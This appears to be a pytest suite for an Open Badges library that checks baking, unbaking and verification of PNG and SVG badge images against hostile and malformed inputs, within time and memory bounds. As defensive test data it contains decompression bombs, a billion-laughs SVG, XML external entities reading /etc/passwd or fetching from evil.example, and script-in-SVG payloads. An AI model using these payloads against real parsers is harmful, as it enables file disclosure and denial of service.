# SPDX-License-Identifier: AGPL-3.0-or-later
"""Pictures that broke other bakers: each gives a right result or one clear error of ours.

Every one is handed to the baker, to the reader and to the verifier, and all three are bounded:
in seconds, and in memory by a multiple of the file.
"""

from __future__ import annotations

import random
import struct
import time
import tracemalloc
import zlib
from contextlib import contextmanager
from datetime import UTC, datetime
from typing import TYPE_CHECKING

import pytest

from openbadges.baking import bake, unbake
from openbadges.baking.png import SIGNATURE
from openbadges.errors import BakingError
from openbadges.fetching import DocumentFetcher
from openbadges.verification import Verdict, verify
from tests.unit.openbadges.baking.test_png import DATA, END, HEADER, chunk, itxt
from tests.unit.openbadges.baking.test_svg import BADGES, LAUGHS, SVG, around

if TYPE_CHECKING:
    from collections.abc import Iterator

pytestmark = pytest.mark.slow

JWS = "eyJhbGciOiJSUzI1NiJ9.e30.c2ln"
OTHER = "eyJhbGciOiJSUzI1NiJ9.eyJhIjoxfQ.c2ln"
TAG = f'<openbadges:assertion verify="{JWS}"/>'
NOW = datetime(2026, 11, 21, 12, tzinfo=UTC)
SECONDS = 2.0
MEMORY = 3
#: What any call may use, however small the picture is.
SMALL = 1 << 20


def png(*chunks: bytes, tail: bytes = END) -> bytes:
    return SIGNATURE + HEADER + b"".join(chunks) + DATA + tail


def noise(size: int) -> bytes:
    return random.Random(1).randbytes(size)  # noqa: S311 (the same noise each time)


def many_pixels() -> bytes:
    """Return a PNG of many equal rows: small as a file, large once it is unpacked."""
    rows = width = 20_000
    header = chunk(b"IHDR", struct.pack(">IIBBBBB", width, rows, 8, 0, 0, 0, 0))
    packer = zlib.compressobj(9)
    row = b"\0" * (1 + width)
    data = b"".join(packer.compress(row) for _ in range(rows)) + packer.flush()
    return SIGNATURE + header + chunk(b"IDAT", data) + END


def big_png() -> bytes:
    """Return a PNG of 30 MB in chunks of 64 KiB, as encoders write them."""
    piece = chunk(b"IDAT", noise(65_536))
    return SIGNATURE + HEADER + piece * (30_000_000 // len(piece)) + END


def too_large_png() -> bytes:
    return SIGNATURE + HEADER + noise(32 << 20)


def animated(*texts: bytes) -> bytes:
    control = chunk(b"acTL", struct.pack(">II", 2, 0))
    frame = struct.pack(">IIIIIHHBB", 0, 1, 1, 0, 0, 1, 10, 0, 0)
    second = chunk(b"fcTL", b"\0\0\0\1" + frame[4:]) + chunk(b"fdAT", b"\0\0\0\2" + DATA[8:-4])
    return png(control, *texts, chunk(b"fcTL", frame), tail=second + END)


BOMB = zlib.compress(b"a" * 50_000_000, 9)
JWS_CHUNK = itxt(JWS.encode())
TRANSLATED = chunk(b"iTXt", b"openbadges\0\0\0de-CH\0Anstecker\0" + JWS.encode())

#: Pictures that are right: what is read from them, or None where nothing is baked in yet.
SOUND = [
    pytest.param(png(TRANSLATED), JWS, id="language-tags"),
    pytest.param(animated(), None, id="animated"),
    pytest.param(animated(JWS_CHUNK), JWS, id="animated-and-baked"),
    pytest.param(big_png, None, id="30-megabytes"),
    pytest.param(many_pixels, None, id="decompression-bomb-of-pixels"),
    pytest.param(
        png(chunk(b"zTXt", b"Comment\0\0" + BOMB)), None, id="decompression-bomb-of-other-text"
    ),
    pytest.param(png(chunk(b"iCCP", b"p\0\0" + BOMB)), None, id="decompression-bomb-of-a-profile"),
    pytest.param(
        b"<s:svg xmlns:s='http://www.w3.org/2000/svg'><s:g/></s:svg>", None, id="prefixed-root"
    ),
    pytest.param(around("<script>alert(1)</script>"), None, id="script-in-svg"),
    pytest.param(around(TAG + "<script>alert(1)</script>"), JWS, id="script-in-a-baked-svg"),
    pytest.param(
        around(f'<b:assertion xmlns:b="https://other.example" verify="{OTHER}"/>{TAG}'),
        JWS,
        id="assertion-of-somebody-else",
    ),
    pytest.param(b"<!DOCTYPE svg>" + SVG, None, id="doctype"),
    pytest.param(
        around('<path d="' + "M0 0" * 1_000_000 + '"/>'), None, id="four-megabytes-of-path"
    ),
    pytest.param(around("\U0001f9e1" * 1_000_000), None, id="four-megabytes-of-rare-letters"),
]

#: Pictures of which nothing is read, and why; the last word says whether baking mends them.
REFUSED, MENDED = False, True
BROKEN = [
    pytest.param(png(itxt(BOMB, flag=b"\1")), "compressed", MENDED, id="compressed-itxt"),
    pytest.param(
        png(chunk(b"zTXt", b"openbadges\0\0" + BOMB)), "compressed", MENDED, id="compressed-ztxt"
    ),
    pytest.param(png(JWS_CHUNK[:-1] + b"?"), "checksum", REFUSED, id="broken-crc-of-the-badge"),
    pytest.param(
        png(JWS_CHUNK, DATA[:-1] + b"?"), "checksum", REFUSED, id="broken-crc-of-the-picture"
    ),
    pytest.param(png(JWS_CHUNK)[:-20], "cut off", REFUSED, id="truncated"),
    pytest.param(png(JWS_CHUNK, tail=b""), "cut off", REFUSED, id="truncated-between-chunks"),
    pytest.param(png(JWS_CHUNK, itxt(OTHER.encode())), "ambiguous", MENDED, id="two-tokens-png"),
    pytest.param(png(JWS_CHUNK, JWS_CHUNK), "ambiguous", MENDED, id="one-token-twice-png"),
    pytest.param(
        png(JWS_CHUNK, chunk(b"tEXt", b"openbadges\0https://a.example")),
        "ambiguous",
        MENDED,
        id="token-and-legacy-text",
    ),
    pytest.param(
        SIGNATURE + HEADER + b"\x80\0\0\0iTXt" + JWS_CHUNK[8:] + END,
        "lies",
        REFUSED,
        id="chunk-length-2-to-31",
    ),
    pytest.param(
        SIGNATURE + HEADER + b"\xff\xff\xff\xffIDAT" + END, "lies", REFUSED, id="chunk-length-max"
    ),
    pytest.param(
        png(JWS_CHUNK) + b"PK\3\4 and more", "followed", REFUSED, id="trailing-data-after-iend"
    ),
    pytest.param(
        png(JWS_CHUNK) + png(itxt(OTHER.encode())), "followed", REFUSED, id="two-pictures-in-a-row"
    ),
    pytest.param(png(chunk(b"zzZz") * 60_000), "more than 50000", REFUSED, id="60000-empty-chunks"),
    pytest.param(too_large_png, "larger than", REFUSED, id="too-large-png"),
    pytest.param(around(TAG).decode().encode("utf-16"), "not UTF-8", REFUSED, id="utf-16-svg"),
    pytest.param(
        around(TAG).decode().encode("utf-16-le"), "not UTF-8", REFUSED, id="utf-16-svg-unmarked"
    ),
    pytest.param(
        b'<!DOCTYPE svg [<!ENTITY a "b">]>' + around(TAG), "DOCTYPE", REFUSED, id="entities"
    ),
    pytest.param(
        f'<!DOCTYPE svg [<!ENTITY a0 "ha">{LAUGHS}]>'.encode() + around(TAG + "&a9;"),
        "DOCTYPE",
        REFUSED,
        id="billion-laughs",
    ),
    pytest.param(
        b'<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>' + around(TAG + "&x;"),
        "DOCTYPE",
        REFUSED,
        id="external-entity",
    ),
    pytest.param(
        b'<!DOCTYPE svg [<!ENTITY % x SYSTEM "https://evil.example/x">%x;]>' + around(TAG),
        "DOCTYPE",
        REFUSED,
        id="external-parameter-entity",
    ),
    pytest.param(
        around("<g>" * 100_000 + "</g>" * 100_000), "too deeply", REFUSED, id="100000-groups"
    ),
    pytest.param(
        around(TAG + "<g>" * 100_000), "too deeply", REFUSED, id="100000-groups-left-open"
    ),
    pytest.param(around("<g/>" * 300_000), "too many", REFUSED, id="300000-elements"),
    pytest.param(
        around(TAG + f'<openbadges:assertion verify="{OTHER}"/>'),
        "ambiguous",
        MENDED,
        id="two-tokens-svg",
    ),
    pytest.param(around(TAG + TAG), "ambiguous", MENDED, id="element-twice"),
    pytest.param(around(f"<g>{TAG}</g>"), "wrong place", MENDED, id="element-in-a-group"),
    pytest.param(
        around(TAG, BADGES.replace(".org", ".example")),
        "another namespace",
        REFUSED,
        id="element-of-a-wrong-namespace",
    ),
    pytest.param(
        around('<o:assertion verify="x"/>', 'xmlns:o="https://openbadges.org/"'),
        "another namespace",
        REFUSED,
        id="element-of-nearly-the-namespace",
    ),
    pytest.param(around(TAG)[:-9], "well-formed", REFUSED, id="truncated-svg"),
    pytest.param(around("<!--" + "x" * (6 << 20) + "-->"), "larger than", REFUSED, id="large-svg"),
]


@pytest.fixture
def image(request: pytest.FixtureRequest) -> bytes:
    """Return the picture; those that are large are made when they are needed."""
    given = request.param
    picture: bytes = given() if callable(given) else given
    return picture


@contextmanager
def bounded(image: bytes) -> Iterator[None]:
    tracemalloc.start()
    started = time.process_time()
    try:
        yield
        seconds = time.process_time() - started
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert seconds < SECONDS
    assert peak < MEMORY * len(image) + SMALL


def judged(image: bytes) -> Verdict:
    return verify(image, fetcher=DocumentFetcher({}), now=NOW).verdict


@pytest.mark.parametrize(("image", "inside"), SOUND, indirect=["image"])
def test_a_sound_picture_is_read_and_baked(image: bytes, inside: str | None) -> None:
    with bounded(image):
        if inside is None:
            with pytest.raises(BakingError, match=r"no (baked )?badge"):
                unbake(image, thorough=True)
        else:
            assert unbake(image, thorough=True) == inside
    with bounded(image):
        baked = bake(image, OTHER)
    assert unbake(baked, thorough=True) == OTHER
    assert bake(baked, OTHER) == baked
    with bounded(image):
        assert judged(image) is not Verdict.VALID


@pytest.mark.parametrize(("image", "reason", "mended"), BROKEN, indirect=["image"])
def test_a_broken_picture_is_refused(image: bytes, reason: str, mended: bool) -> None:
    with bounded(image), pytest.raises(BakingError, match=reason):
        unbake(image, thorough=True)
    with bounded(image):
        if mended:
            assert unbake(bake(image, OTHER), thorough=True) == OTHER
        else:
            with pytest.raises(BakingError, match=reason):
                bake(image, OTHER)
    with bounded(image):
        assert judged(image) is not Verdict.VALID
